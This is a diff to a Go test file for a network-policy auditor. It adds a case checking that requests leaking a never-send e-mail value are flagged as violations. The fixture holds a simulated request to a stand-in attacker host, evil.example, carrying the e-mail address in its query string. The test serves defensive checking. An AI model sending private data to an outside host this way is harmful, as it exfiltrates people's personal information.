@@ -223,6 +223,12 @@ func TestContent(t *testing.T) {
 	if v := one(t, Captures(audit(t, p, clear...), audit(t, p, fixed...))); v.State != Fixed || v.Finding().Rule != policy.Cleartext {
 		t.Errorf("%q because of %q", v.State, doubts(v))
 	}
+	// A host that must not be contacted at all is left alone by the fix.
+	leaks := parse(t, "version: 1\nallow:\n  - \"*.canada.ca\"\nnever-send:\n  - name: e-mail\n    value: tester@example.org\n")
+	c := Captures(audit(t, leaks, every(3, time.Minute, get("https://evil.example/?q=tester@example.org"))...), audit(t, leaks, mend(5*time.Minute)...))
+	if len(c.Violations) != 2 || c.Result != AllFixed {
+		t.Errorf("%q: %+v", c.Result, c.Violations)
+	}
 	if v := one(t, Captures(audit(t, p, clear...), audit(t, p, mend(5*time.Minute)...))); doubts(v) != string(WasContacted) {
 		t.Errorf("host not contacted: %q because of %q", v.State, doubts(v))
 	}
